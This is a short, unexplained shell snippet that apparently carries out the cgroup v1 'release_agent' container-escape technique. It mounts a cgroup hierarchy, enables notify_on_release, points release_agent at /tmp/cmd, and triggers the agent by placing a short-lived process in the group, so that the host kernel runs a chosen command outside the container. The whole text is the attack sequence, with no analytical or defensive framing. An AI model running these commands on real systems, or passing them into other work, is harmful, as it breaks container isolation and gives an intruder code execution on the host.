mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
echo "/tmp/cmd" > /tmp/cg/release_agent
sh -c "echo \$\$ > /tmp/cg/x/cgroup.procs"
